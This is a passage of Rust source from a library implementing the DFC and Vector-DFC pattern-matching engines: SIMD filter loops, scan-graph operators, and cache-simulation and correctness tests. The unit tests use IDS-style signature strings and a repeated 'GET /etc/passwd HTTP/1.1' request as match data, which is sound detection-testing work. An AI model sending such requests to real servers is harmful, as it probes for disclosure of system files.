    // and the ruleset size -- the cache_ablation binary reports the ratio).
    assert!(
        ac.report.l1_misses() as f64 > 1.4 * dfc_r.report.l1_misses() as f64,
        "AC L1 misses {} should clearly exceed DFC's {}",
        ac.report.l1_misses(),
        dfc_r.report.l1_misses()
    );
    assert!(
        ac.report.l1_miss_ratio() > vp.report.l1_miss_ratio(),
        "AC miss ratio should exceed V-PATCH's"
    );
}

#[test]
fn phi_without_l3_sends_verification_to_memory() {
    let (set, trace) = workload();
    let dfc = Dfc::build(&set);
    let hsw = replay_dfc(&dfc, &trace, CacheConfig::haswell());
    let phi = replay_dfc(&dfc, &trace, CacheConfig::xeon_phi());
    // Paper §V-E: on Xeon-Phi the hash tables cannot live in an L3, so
    // accesses that Haswell serves from L3 go to device memory.
    assert!(
        phi.report.memory_accesses > hsw.report.memory_accesses,
        "phi memory accesses {} vs haswell {}",
        phi.report.memory_accesses,
        hsw.report.memory_accesses
    );
    assert_eq!(phi.report.l3_hits, 0);
}

#[test]
fn vpatch_touches_memory_less_often_than_dfc_on_phi() {
    let (set, trace) = workload();
    let dfc = Dfc::build(&set);
    let spatch = SPatch::build(&set);
    let dfc_phi = replay_dfc(&dfc, &trace, CacheConfig::xeon_phi());
    let vp_phi = replay_vpatch(&spatch, &trace, CacheConfig::xeon_phi());
    // The improved filtering reduces how often verification (device memory on
    // Phi) is reached — the reason V-PATCH stays ahead there (§V-E).
    assert!(
        vp_phi.report.memory_accesses < dfc_phi.report.memory_accesses,
        "V-PATCH {} vs DFC {}",
        vp_phi.report.memory_accesses,
        dfc_phi.report.memory_accesses
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(32))]

    #[test]
    fn report_counts_are_consistent(addrs in proptest::collection::vec(0u64..10_000_000, 1..2_000)) {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        for &a in &addrs {
            sim.access(a);
        }
        let r = sim.report();
        prop_assert_eq!(r.accesses as usize, addrs.len());
        prop_assert_eq!(r.accesses, r.l1_hits + r.l2_hits + r.l3_hits + r.memory_accesses);
    }

    #[test]
    fn second_pass_over_small_working_set_is_all_l1(addrs in proptest::collection::vec(0u64..16_384, 1..500)) {
        let mut sim = CacheSim::new(CacheConfig::haswell());
        for &a in &addrs {
            sim.access(a);
        }
        let before = sim.report();
        for &a in &addrs {
            sim.access(a);
        }
        let after = sim.report();
        // 16 KB working set fits in L1: the second pass adds only L1 hits.
        prop_assert_eq!(after.memory_accesses, before.memory_accesses);
        prop_assert_eq!(after.l1_hits - before.l1_hits, addrs.len() as u64);
    }
}
