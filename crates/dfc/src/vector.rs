//! Vector-DFC: the direct vectorization of DFC's filtering loop.
//!
//! This is the "Vector-DFC" configuration of the paper's evaluation: the
//! initial-filter lookups are performed `W` positions at a time with the
//! gather instruction, but the structure of the algorithm is unchanged —
//! classification and verification still happen inline, in scalar code, the
//! moment a window passes the initial filter. Because on realistic traffic a
//! large share of DFC's time is spent in that scalar tail, the speedup over
//! scalar DFC is modest (the paper measures 1.03×–1.23× on Haswell); the
//! point of reproducing it is to show *why* S-PATCH's restructuring is
//! needed before vectorization pays off.
//!
//! The filter lookups ride the register-resident `VectorBackend` API: the
//! `windows2 → shr → gather → test` chain stays in `B::Vec` registers. The
//! algorithmic *structure* is still DFC's single pass — there is no separate
//! whole-input filtering round as in S-PATCH/V-PATCH — but since PR 5 the
//! surviving lane masks leave the registers through `compress_store` into a
//! small pending block that is drained through the batched,
//! prefetch-pipelined verification path (`DfcTables::classify_and_verify_batch`)
//! whenever it fills, rather than each lane being classified and verified
//! inline the moment its bit pops out of the mask. The candidate set, match
//! set and comparison counts are unchanged; only the memory scheduling of
//! the verification tail — which dominates Vector-DFC's runtime on
//! realistic traffic, which is the paper's whole point about this engine —
//! is improved.

use crate::tables::{DfcTables, DRAIN_BLOCK};
use mpm_graph::{with_cached_scratchpad, GraphConfig, ScanGraph};
use mpm_patterns::{fold_byte, MatchEvent, Matcher, MatcherStats, PatternSet};
use mpm_simd::VectorBackend;
use std::marker::PhantomData;
use std::sync::Arc;

/// Vector-DFC, generic over the SIMD backend and lane count.
///
/// Since PR 9 the scan path is a graph assembly (`graph` module): the
/// vectorized sweep and the block drain are separate operators scheduled
/// by [`ScanGraph`]. The historical single-pass loop is retained as
/// [`VectorDfc::find_into_legacy`], the differential oracle the graph
/// path is tested against.
#[derive(Clone, Debug)]
pub struct VectorDfc<B: VectorBackend<W>, const W: usize> {
    tables: Arc<DfcTables>,
    graph: ScanGraph,
    _backend: PhantomData<B>,
}

impl<B: VectorBackend<W>, const W: usize> VectorDfc<B, W> {
    /// Compiles Vector-DFC for `set`.
    ///
    /// # Panics
    /// Panics if the backend is not available on this CPU (check
    /// [`VectorBackend::is_available`] first, or use the scalar backend which
    /// is always available).
    pub fn build(set: &PatternSet) -> Self {
        assert!(
            B::is_available(),
            "SIMD backend {} is not available on this CPU",
            B::name()
        );
        Self::from_tables(DfcTables::build(set))
    }

    /// Wraps pre-built tables in the engine (assembles the scan graph).
    /// The backend-availability check is the caller's responsibility here;
    /// [`VectorDfc::build`] performs it.
    pub fn from_tables(tables: DfcTables) -> Self {
        let tables = Arc::new(tables);
        let graph = crate::graph::build_vector_dfc_graph::<B, W>(&tables);
        VectorDfc {
            tables,
            graph,
            _backend: PhantomData,
        }
    }

    /// Name of the SIMD backend in use.
    pub fn backend_name(&self) -> &'static str {
        B::name()
    }

    /// The compiled tables (exposed for the cache-simulation experiments and
    /// the memory-footprint reporting).
    pub fn tables(&self) -> &DfcTables {
        &self.tables
    }

    /// The operator graph the scan path executes.
    pub fn graph(&self) -> &ScanGraph {
        &self.graph
    }

    /// The graph's chunking/overlap configuration.
    pub fn graph_config(&self) -> GraphConfig {
        self.graph.config()
    }

    /// Overrides the graph's chunking/overlap configuration (used by the
    /// benchmark harness and the differential tests for deterministic A/B
    /// runs without environment races).
    pub fn set_graph_config(&mut self, config: GraphConfig) {
        self.graph.set_config(config);
    }

    /// The pre-PR 9 monolithic scan pass, kept as the differential oracle
    /// for the graph assembly.
    pub fn find_into_legacy(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        self.scan(haystack, out);
    }

    /// [`Matcher::scan_with_stats`] through the legacy monolithic pass.
    pub fn scan_with_stats_legacy(&self, haystack: &[u8]) -> MatcherStats {
        let mut out = Vec::new();
        let candidates = self.scan(haystack, &mut out);
        MatcherStats {
            bytes_scanned: haystack.len() as u64,
            candidates,
            matches: out.len() as u64,
            ..MatcherStats::default()
        }
    }

    fn scan(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) -> u64 {
        if self.tables.is_folded() {
            self.scan_impl::<true>(haystack, out)
        } else {
            self.scan_impl::<false>(haystack, out)
        }
    }

    fn scan_impl<const FOLD: bool>(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) -> u64 {
        let t = &self.tables;
        if haystack.is_empty() {
            return 0;
        }
        let filter_bytes = t.df_initial.bytes();
        let n = haystack.len();
        // The drain buffers come from the thread-local cache, so repeated
        // scans (one per streamed chunk/packet) allocate nothing.
        crate::tables::with_drain_buffers(|pending, long_scratch| {
            let mut candidates = 0u64;
            // The vector loop needs W + 1 input bytes per block; positions
            // whose 2-byte window would read past the end are handled by the
            // scalar tail below.
            let mut i = 0usize;
            if n > W {
                // Run the vectorized initial-filter loop inside the backend's
                // feature context so the gathers inline (see
                // `VectorBackend::dispatch`). Surviving lanes are compacted
                // into the pending block with `compress_store` and drained
                // through the batched verification path when it fills. With
                // folded tables the window register is case-folded before the
                // filter lookup, mirroring the folded build.
                B::dispatch(|| {
                    while i + W < n {
                        let windows = B::windows2(haystack, i);
                        let windows = if FOLD {
                            B::to_ascii_lower(windows)
                        } else {
                            windows
                        };
                        let idx = B::shr_const(windows, 3);
                        let bytes = B::gather_bytes(filter_bytes, idx);
                        let mask = B::test_window_bits(bytes, windows);
                        if mask != 0 {
                            candidates += mask.count_ones() as u64;
                            B::compress_store(mask, i as u32, pending);
                            if pending.len() >= DRAIN_BLOCK {
                                t.classify_and_verify_batch::<B, W>(
                                    haystack,
                                    pending,
                                    long_scratch,
                                    out,
                                );
                                pending.clear();
                            }
                        }
                        i += W;
                    }
                });
            }
            // Scalar tail: remaining windows plus the final byte.
            while i + 1 < n {
                let window = u16::from_le_bytes([
                    fold_byte(haystack[i], FOLD),
                    fold_byte(haystack[i + 1], FOLD),
                ]);
                if t.df_initial.contains(window) {
                    candidates += 1;
                    pending.push(i as u32);
                }
                i += 1;
            }
            t.classify_and_verify_batch::<B, W>(haystack, pending, long_scratch, out);
            t.verify_tail(haystack, out);
            candidates
        })
    }
}

impl<B: VectorBackend<W>, const W: usize> Matcher for VectorDfc<B, W> {
    fn name(&self) -> &'static str {
        "Vector-DFC"
    }

    fn max_pattern_len(&self) -> usize {
        self.tables.max_pattern_len
    }

    fn find_into(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        with_cached_scratchpad(|pad| self.graph.run(haystack, pad, out));
    }

    fn scan_with_stats(&self, haystack: &[u8]) -> MatcherStats {
        let mut out = Vec::new();
        let counters = with_cached_scratchpad(|pad| {
            self.graph.run(haystack, pad, &mut out);
            pad.counters
        });
        MatcherStats {
            bytes_scanned: haystack.len() as u64,
            candidates: counters.candidates,
            matches: out.len() as u64,
            filter_nanos: counters.filter_nanos,
            verify_nanos: counters.verify_nanos,
            ..MatcherStats::default()
        }
    }

    fn heap_bytes(&self) -> usize {
        self.memory_footprint().total()
    }

    fn memory_footprint(&self) -> mpm_patterns::MemoryFootprint {
        mpm_patterns::MemoryFootprint {
            filter_bytes: self.tables.filter_bytes(),
            verify_bytes: self.tables.table_bytes(),
            other_bytes: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scalar::Dfc;
    use mpm_patterns::naive::naive_find_all;
    use mpm_simd::{Avx2Backend, Avx512Backend, ScalarBackend};

    fn test_set() -> PatternSet {
        PatternSet::from_literals(&[
            "a",
            "ab",
            "GET",
            "abcd",
            "attack-vector",
            "/etc/passwd",
            "xyz",
        ])
    }

    fn test_input() -> Vec<u8> {
        let mut hay = Vec::new();
        for i in 0..50 {
            hay.extend_from_slice(b"GET /etc/passwd HTTP/1.1 ");
            hay.extend_from_slice(format!("filler-{i}-abcd-xyz ").as_bytes());
            if i % 7 == 0 {
                hay.extend_from_slice(b"attack-vector");
            }
        }
        hay
    }

    #[test]
    fn scalar_backend_agrees_with_naive_and_scalar_dfc() {
        let set = test_set();
        let hay = test_input();
        let expected = naive_find_all(&set, &hay);
        let vdfc = VectorDfc::<ScalarBackend, 8>::build(&set);
        assert_eq!(vdfc.find_all(&hay), expected);
        let dfc = Dfc::build(&set);
        assert_eq!(dfc.find_all(&hay), expected);
    }

    #[test]
    fn avx2_backend_agrees_when_available() {
        if !<Avx2Backend as VectorBackend<8>>::is_available() {
            return;
        }
        let set = test_set();
        let hay = test_input();
        let vdfc = VectorDfc::<Avx2Backend, 8>::build(&set);
        assert_eq!(vdfc.find_all(&hay), naive_find_all(&set, &hay));
    }

    #[test]
    fn avx512_backend_agrees_when_available() {
        if !<Avx512Backend as VectorBackend<16>>::is_available() {
            return;
        }
        let set = test_set();
        let hay = test_input();
        let vdfc = VectorDfc::<Avx512Backend, 16>::build(&set);
        assert_eq!(vdfc.find_all(&hay), naive_find_all(&set, &hay));
    }

    #[test]
    fn nocase_sets_match_naive_on_every_available_backend() {
        use mpm_patterns::Pattern;
        let set = PatternSet::new(vec![
            Pattern::literal_nocase(*b"Attack-Vector"),
            Pattern::literal(*b"attack-vector"),
            Pattern::literal_nocase(*b"GeT"),
            Pattern::literal_nocase(*b"z"),
        ]);
        let mut hay = Vec::new();
        for _ in 0..40 {
            hay.extend_from_slice(b"ATTACK-VECTOR attack-vector get GET Z z aTtAcK-vEcToR ");
        }
        let expected = naive_find_all(&set, &hay);
        assert_eq!(
            VectorDfc::<ScalarBackend, 8>::build(&set).find_all(&hay),
            expected
        );
        if <Avx2Backend as VectorBackend<8>>::is_available() {
            assert_eq!(
                VectorDfc::<Avx2Backend, 8>::build(&set).find_all(&hay),
                expected
            );
        }
        if <Avx512Backend as VectorBackend<16>>::is_available() {
            assert_eq!(
                VectorDfc::<Avx512Backend, 16>::build(&set).find_all(&hay),
                expected
            );
        }
    }

    #[test]
    fn inputs_shorter_than_a_vector_block() {
        let set = test_set();
        let vdfc = VectorDfc::<ScalarBackend, 8>::build(&set);
        for hay in [&b""[..], b"a", b"ab", b"GET", b"abcd", b"xyzabc"] {
            assert_eq!(
                vdfc.find_all(hay),
                naive_find_all(&set, hay),
                "input {hay:?}"
            );
        }
    }

    #[test]
    fn wide_scalar_width_matches_too() {
        let set = test_set();
        let hay = test_input();
        let vdfc16 = VectorDfc::<ScalarBackend, 16>::build(&set);
        assert_eq!(vdfc16.find_all(&hay), naive_find_all(&set, &hay));
    }
}
