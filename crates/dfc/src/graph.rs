//! DFC / Vector-DFC as **scan-graph assemblies**.
//!
//! The graph form splits DFC's historically interleaved single pass at its
//! natural seam: the filter op sweeps one chunk's windows through the
//! initial direct filter, compacting survivors into a counted `pending`
//! slot; the verify op drains that slot through the batched
//! classification/verification path in [`DRAIN_BLOCK`]-sized blocks. The
//! candidate set, match set and comparison counts are identical to the
//! legacy pass (the drain blocking only regroups the append order of
//! matches, which no caller observes); what the split buys is the
//! double-banked overlap schedule — chunk *k*'s filter sweep runs while
//! chunk *k − 1*'s candidates drain.

use std::marker::PhantomData;
use std::sync::Arc;

use mpm_graph::{Chunk, GraphBuilder, GraphConfig, ScanGraph, ScanOp, Scratchpad, SlotId, Stage};
use mpm_patterns::{fold_byte, MatchEvent};
use mpm_simd::VectorBackend;

use crate::tables::{DfcTables, DRAIN_BLOCK};

/// How many leading pending candidates the prime hook prefetches bucket
/// rows for while the next chunk is still being filtered.
const PRIME_CANDIDATES: usize = 64;

/// The slots every DFC assembly allocates: initial-filter survivors
/// (counted — they are the engine's candidate statistic) and the
/// progressive-filter scratch the long-class drain uses (uncounted).
#[derive(Clone, Copy)]
pub(crate) struct DfcSlots {
    pending: SlotId,
    long_scratch: SlotId,
}

/// Scalar DFC initial-filter sweep over window positions `start..end`
/// (clamped to the last 2-byte window).
fn scalar_filter_range<const FOLD: bool>(
    t: &DfcTables,
    haystack: &[u8],
    start: usize,
    end: usize,
    pending: &mut Vec<u32>,
) {
    let n = haystack.len();
    for i in start..end.min(n.saturating_sub(1)) {
        let window = u16::from_le_bytes([
            fold_byte(haystack[i], FOLD),
            fold_byte(haystack[i + 1], FOLD),
        ]);
        if t.df_initial.contains(window) {
            pending.push(i as u32);
        }
    }
}

/// Vectorized initial-filter sweep (Vector-DFC's loop) over
/// `start..end`, with the scalar continuation for the block tail.
fn vector_filter_range<B: VectorBackend<W>, const W: usize, const FOLD: bool>(
    t: &DfcTables,
    haystack: &[u8],
    start: usize,
    end: usize,
    pending: &mut Vec<u32>,
) {
    let n = haystack.len();
    let filter_bytes = t.df_initial.bytes();
    let mut i = start;
    B::dispatch(|| {
        while i + W <= end && i + W < n {
            let windows = B::windows2(haystack, i);
            let windows = if FOLD {
                B::to_ascii_lower(windows)
            } else {
                windows
            };
            let idx = B::shr_const(windows, 3);
            let bytes = B::gather_bytes(filter_bytes, idx);
            let mask = B::test_window_bits(bytes, windows);
            if mask != 0 {
                B::compress_store(mask, i as u32, pending);
            }
            i += W;
        }
    });
    scalar_filter_range::<FOLD>(t, haystack, i, end, pending);
}

/// Filter-stage operator: the scalar DFC sweep.
struct DfcFilterOp {
    tables: Arc<DfcTables>,
    slots: DfcSlots,
}

impl ScanOp for DfcFilterOp {
    fn name(&self) -> &'static str {
        "dfc:filter"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        pad.reserve_slot(self.slots.pending, batch / 16 + 16);
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        let mut pending = pad.take_write(self.slots.pending);
        if self.tables.is_folded() {
            scalar_filter_range::<true>(
                &self.tables,
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut pending,
            );
        } else {
            scalar_filter_range::<false>(
                &self.tables,
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut pending,
            );
        }
        pad.put_write(self.slots.pending, pending);
    }
}

/// Filter-stage operator: the vectorized (Vector-DFC) sweep on backend `B`.
struct VectorDfcFilterOp<B: VectorBackend<W>, const W: usize> {
    tables: Arc<DfcTables>,
    slots: DfcSlots,
    _backend: PhantomData<fn() -> B>,
}

impl<B: VectorBackend<W>, const W: usize> ScanOp for VectorDfcFilterOp<B, W> {
    fn name(&self) -> &'static str {
        "vdfc:filter"
    }

    fn stage(&self) -> Stage {
        Stage::Filter
    }

    fn init(&self, batch: usize, pad: &mut Scratchpad) {
        pad.reserve_slot(self.slots.pending, batch / 16 + 16);
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, _out: &mut Vec<MatchEvent>) {
        let mut pending = pad.take_write(self.slots.pending);
        if self.tables.is_folded() {
            vector_filter_range::<B, W, true>(
                &self.tables,
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut pending,
            );
        } else {
            vector_filter_range::<B, W, false>(
                &self.tables,
                chunk.haystack,
                chunk.start,
                chunk.end,
                &mut pending,
            );
        }
        pad.put_write(self.slots.pending, pending);
    }
}

/// Verify-stage operator: drains the read bank's pending positions through
/// the batched classification path in [`DRAIN_BLOCK`]-sized blocks, and
/// handles the final-byte tail on the last chunk.
struct DfcVerifyOp<B: VectorBackend<W>, const W: usize> {
    tables: Arc<DfcTables>,
    slots: DfcSlots,
    _backend: PhantomData<fn() -> B>,
}

impl<B: VectorBackend<W>, const W: usize> ScanOp for DfcVerifyOp<B, W> {
    fn name(&self) -> &'static str {
        "dfc:verify"
    }

    fn stage(&self) -> Stage {
        Stage::Verify
    }

    fn execute(&self, chunk: Chunk<'_>, pad: &mut Scratchpad, out: &mut Vec<MatchEvent>) {
        let t = &self.tables;
        let pending = pad.take_read(self.slots.pending);
        let mut long_scratch = pad.take_read(self.slots.long_scratch);
        let mut comparisons = 0u64;
        for block in pending.chunks(DRAIN_BLOCK) {
            comparisons +=
                t.classify_and_verify_batch::<B, W>(chunk.haystack, block, &mut long_scratch, out);
        }
        if chunk.is_last {
            t.verify_tail(chunk.haystack, out);
        }
        pad.counters.comparisons += comparisons;
        pad.put_read(self.slots.pending, pending);
        pad.put_read(self.slots.long_scratch, long_scratch);
    }

    fn prime(&self, chunk: Chunk<'_>, pad: &Scratchpad) {
        self.tables.prefetch_pending(
            chunk.haystack,
            pad.read(self.slots.pending),
            PRIME_CANDIDATES,
        );
    }
}

fn dfc_builder() -> (GraphBuilder, DfcSlots) {
    let mut b = GraphBuilder::new();
    let slots = DfcSlots {
        pending: b.slot(true),
        long_scratch: b.slot(false),
    };
    b.config(GraphConfig::from_env());
    (b, slots)
}

/// Assembles the scalar DFC graph: scalar sweep → block drain on the
/// scalar backend.
pub(crate) fn build_dfc_graph(tables: &Arc<DfcTables>) -> ScanGraph {
    use mpm_simd::ScalarBackend;
    let (mut b, slots) = dfc_builder();
    b.op(Arc::new(DfcFilterOp {
        tables: tables.clone(),
        slots,
    }));
    b.op(Arc::new(DfcVerifyOp::<ScalarBackend, 8> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.build()
}

/// Assembles the Vector-DFC graph: vector sweep → block drain on `B`.
pub(crate) fn build_vector_dfc_graph<B: VectorBackend<W>, const W: usize>(
    tables: &Arc<DfcTables>,
) -> ScanGraph {
    let (mut b, slots) = dfc_builder();
    b.op(Arc::new(VectorDfcFilterOp::<B, W> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.op(Arc::new(DfcVerifyOp::<B, W> {
        tables: tables.clone(),
        slots,
        _backend: PhantomData,
    }));
    b.build()
}

#[cfg(test)]
mod tests {
    use crate::{Dfc, VectorDfcScalar};
    use mpm_patterns::{Matcher, PatternSet};

    fn sorted(mut v: Vec<MatchEvent>) -> Vec<MatchEvent> {
        v.sort_unstable_by_key(|m| (m.start, m.pattern.0));
        v
    }

    use mpm_patterns::MatchEvent;

    #[test]
    fn graph_matches_legacy_across_chunkings_and_overlap() {
        let set = PatternSet::from_literals(&["a", "ab", "GET", "abcd", "attack", "/etc/passwd"]);
        let hay: Vec<u8> = b"GET /etc/passwd abcd attack aab "
            .iter()
            .cycle()
            .take(4096 + 17)
            .copied()
            .collect();

        let mut legacy = Vec::new();
        let dfc = Dfc::build(&set);
        dfc.find_into_legacy(&hay, &mut legacy);
        let legacy = sorted(legacy);

        for chunk in [64usize, 256, 1 << 16] {
            for overlap in [false, true] {
                let cfg = mpm_graph::GraphConfig { chunk, overlap }.normalize();
                let mut d = Dfc::build(&set);
                d.set_graph_config(cfg);
                assert_eq!(sorted(d.find_all(&hay)), legacy, "dfc chunk={chunk}");
                assert_eq!(
                    d.scan_with_stats(&hay).candidates,
                    dfc.scan_with_stats_legacy(&hay).candidates
                );

                let mut v = VectorDfcScalar::build(&set);
                v.set_graph_config(cfg);
                assert_eq!(sorted(v.find_all(&hay)), legacy, "vdfc chunk={chunk}");
                assert_eq!(
                    v.scan_with_stats(&hay).candidates,
                    v.scan_with_stats_legacy(&hay).candidates
                );
            }
        }
    }
}
