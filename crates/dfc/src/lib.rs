//! DFC (Direct Filter Classification, Choi et al., NSDI'16) baseline and its
//! direct vectorization **Vector-DFC**.
//!
//! DFC replaces Aho-Corasick's state machine with a set of small,
//! cache-resident filters followed by compact-hash-table verification
//! (paper §II-B):
//!
//! 1. a 2-byte sliding window over the input indexes an 8 KB **direct
//!    filter**; positions whose window bit is clear are discarded — on
//!    typical traffic this is the vast majority of the input;
//! 2. surviving positions are **classified** by candidate pattern length:
//!    short patterns go straight to their per-length compact hash tables,
//!    long patterns pass through an additional ("progressive") direct filter
//!    indexed by the next two input bytes first;
//! 3. verification compares the candidate input against the full patterns
//!    stored in the compact hash tables.
//!
//! Crucially, in DFC filtering and verification are **interleaved in one
//! pass** over the input. The paper's Vector-DFC (reproduced in
//! [`vector::VectorDfc`]) vectorizes the filter lookups of that loop but
//! keeps everything else scalar, which is why its speedup is modest — the
//! observation that motivates S-PATCH's two-round redesign in `mpm-vpatch`.
//!
//! Both engines implement [`mpm_patterns::Matcher`] and are exact: they
//! report precisely the matches Aho-Corasick reports (tested against the
//! naive reference and property-tested in `tests/`).

#![warn(missing_docs)]

pub(crate) mod graph;
pub mod scalar;
pub mod tables;
pub mod vector;

pub use scalar::Dfc;
pub use tables::DfcTables;
pub use vector::VectorDfc;

/// Convenience alias: Vector-DFC at the AVX2 width (8 lanes), the paper's
/// Haswell configuration.
pub type VectorDfcAvx2 = vector::VectorDfc<mpm_simd::Avx2Backend, 8>;
/// Convenience alias: Vector-DFC at the AVX-512 / Xeon-Phi width (16 lanes).
pub type VectorDfcAvx512 = vector::VectorDfc<mpm_simd::Avx512Backend, 16>;
/// Convenience alias: Vector-DFC run through the portable scalar backend.
pub type VectorDfcScalar = vector::VectorDfc<mpm_simd::ScalarBackend, 8>;
