//! The original (scalar, single-pass) DFC engine.
//!
//! Since PR 5 the verification side of the pass is **block-drained**: the
//! positions that survive the initial direct filter are buffered (up to
//! [`crate::tables::DRAIN_BLOCK`] at a time) and pushed through the batched,
//! prefetch-pipelined compact-hash-table path instead of being classified
//! and verified one at a time the moment they pass. The filter loop itself —
//! the part the paper's "DFC" baseline measures against the vectorized
//! engines — is unchanged scalar code; what changed is that the dependent
//! hash-table loads of consecutive candidates now overlap instead of
//! serialising.

use crate::tables::{DfcTables, DRAIN_BLOCK};
use mpm_graph::{with_cached_scratchpad, GraphConfig, ScanGraph};
use mpm_patterns::{fold_byte, MatchEvent, Matcher, MatcherStats, PatternSet};
use mpm_simd::ScalarBackend;
use std::sync::Arc;

/// Scalar DFC: interleaved filtering + verification, exactly the structure
/// the paper uses as its "DFC" baseline.
///
/// Since PR 9 the scan path is a graph assembly (`graph` module): the
/// filter sweep and the block drain are separate operators scheduled by
/// [`ScanGraph`], which also gives DFC the streaming chunk loop and the
/// overlapped (double-banked) schedule for free. The historical
/// single-pass loop is retained as [`Dfc::find_into_legacy`], the
/// differential oracle the graph path is tested against.
#[derive(Clone, Debug)]
pub struct Dfc {
    tables: Arc<DfcTables>,
    graph: ScanGraph,
}

impl Dfc {
    /// Compiles DFC for `set`.
    pub fn build(set: &PatternSet) -> Self {
        Self::from_tables(DfcTables::build(set))
    }

    /// Wraps pre-built tables in the engine (assembles the scan graph).
    pub fn from_tables(tables: DfcTables) -> Self {
        let tables = Arc::new(tables);
        let graph = crate::graph::build_dfc_graph(&tables);
        Dfc { tables, graph }
    }

    /// The compiled tables (used by the cache-simulation experiments).
    pub fn tables(&self) -> &DfcTables {
        &self.tables
    }

    /// The operator graph the scan path executes.
    pub fn graph(&self) -> &ScanGraph {
        &self.graph
    }

    /// The graph's chunking/overlap configuration.
    pub fn graph_config(&self) -> GraphConfig {
        self.graph.config()
    }

    /// Overrides the graph's chunking/overlap configuration (used by the
    /// benchmark harness and the differential tests for deterministic A/B
    /// runs without environment races).
    pub fn set_graph_config(&mut self, config: GraphConfig) {
        self.graph.set_config(config);
    }

    /// The pre-PR 9 monolithic scan pass, kept as the differential oracle
    /// for the graph assembly.
    pub fn find_into_legacy(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        self.scan(haystack, out);
    }

    /// [`Matcher::scan_with_stats`] through the legacy monolithic pass.
    pub fn scan_with_stats_legacy(&self, haystack: &[u8]) -> MatcherStats {
        let mut out = Vec::new();
        let (candidates, _comparisons) = self.scan(haystack, &mut out);
        MatcherStats {
            bytes_scanned: haystack.len() as u64,
            candidates,
            matches: out.len() as u64,
            ..MatcherStats::default()
        }
    }

    /// Core scan loop shared by [`Matcher::find_into`] and
    /// [`Matcher::scan_with_stats`]. Returns `(candidates, comparisons)`.
    /// Dispatches to the folded (`nocase`-capable) or byte-exact loop
    /// depending on how the tables were built.
    fn scan(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) -> (u64, u64) {
        if self.tables.is_folded() {
            self.scan_impl::<true>(haystack, out)
        } else {
            self.scan_impl::<false>(haystack, out)
        }
    }

    fn scan_impl<const FOLD: bool>(
        &self,
        haystack: &[u8],
        out: &mut Vec<MatchEvent>,
    ) -> (u64, u64) {
        let t = &self.tables;
        if haystack.is_empty() {
            return (0, 0);
        }
        // The drain buffers come from the thread-local cache, so repeated
        // scans (one per streamed chunk/packet) allocate nothing.
        crate::tables::with_drain_buffers(|pending, long_scratch| {
            let mut candidates = 0u64;
            let mut comparisons = 0u64;
            for i in 0..haystack.len() - 1 {
                let window = u16::from_le_bytes([
                    fold_byte(haystack[i], FOLD),
                    fold_byte(haystack[i + 1], FOLD),
                ]);
                if t.df_initial.contains(window) {
                    candidates += 1;
                    pending.push(i as u32);
                    if pending.len() == DRAIN_BLOCK {
                        comparisons += t.classify_and_verify_batch::<ScalarBackend, 8>(
                            haystack,
                            pending,
                            long_scratch,
                            out,
                        );
                        pending.clear();
                    }
                }
            }
            comparisons += t.classify_and_verify_batch::<ScalarBackend, 8>(
                haystack,
                pending,
                long_scratch,
                out,
            );
            t.verify_tail(haystack, out);
            (candidates, comparisons)
        })
    }
}

impl Matcher for Dfc {
    fn name(&self) -> &'static str {
        "DFC"
    }

    fn max_pattern_len(&self) -> usize {
        self.tables.max_pattern_len
    }

    fn find_into(&self, haystack: &[u8], out: &mut Vec<MatchEvent>) {
        with_cached_scratchpad(|pad| self.graph.run(haystack, pad, out));
    }

    fn scan_with_stats(&self, haystack: &[u8]) -> MatcherStats {
        let mut out = Vec::new();
        let counters = with_cached_scratchpad(|pad| {
            self.graph.run(haystack, pad, &mut out);
            pad.counters
        });
        MatcherStats {
            bytes_scanned: haystack.len() as u64,
            candidates: counters.candidates,
            matches: out.len() as u64,
            filter_nanos: counters.filter_nanos,
            verify_nanos: counters.verify_nanos,
            ..MatcherStats::default()
        }
    }

    fn heap_bytes(&self) -> usize {
        self.memory_footprint().total()
    }

    fn memory_footprint(&self) -> mpm_patterns::MemoryFootprint {
        mpm_patterns::MemoryFootprint {
            filter_bytes: self.tables.filter_bytes(),
            verify_bytes: self.tables.table_bytes(),
            other_bytes: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mpm_patterns::naive::naive_find_all;
    use mpm_patterns::synthetic::{RulesetSpec, SyntheticRuleset};

    #[test]
    fn matches_naive_on_mixed_length_patterns() {
        let set = PatternSet::from_literals(&["a", "ab", "abc", "abcd", "bcde", "e", "GET /index"]);
        let dfc = Dfc::build(&set);
        let hay = b"xxabcdexx GET /index.html aaab";
        assert_eq!(dfc.find_all(hay), naive_find_all(&set, hay));
    }

    #[test]
    fn empty_and_tiny_inputs() {
        let set = PatternSet::from_literals(&["a", "ab"]);
        let dfc = Dfc::build(&set);
        assert!(dfc.find_all(b"").is_empty());
        assert_eq!(dfc.find_all(b"a").len(), 1);
        assert_eq!(dfc.find_all(b"ab").len(), 2); // "a" and "ab"
    }

    #[test]
    fn filtering_rejects_most_random_input() {
        let rs = SyntheticRuleset::generate(RulesetSpec::tiny(500, 21));
        let set = rs.http();
        let dfc = Dfc::build(&set);
        // Uniformly random bytes: the paper reports ~95%+ of the input is
        // filtered out; check the candidate rate is low.
        let mut hay = vec![0u8; 100_000];
        let mut state = 0x1234_5678_9abc_def0u64;
        for b in hay.iter_mut() {
            state = state.wrapping_mul(6364136223846793005).wrapping_add(1);
            *b = (state >> 33) as u8;
        }
        let stats = dfc.scan_with_stats(&hay);
        let rate = stats.candidates as f64 / stats.bytes_scanned as f64;
        assert!(
            rate < 0.35,
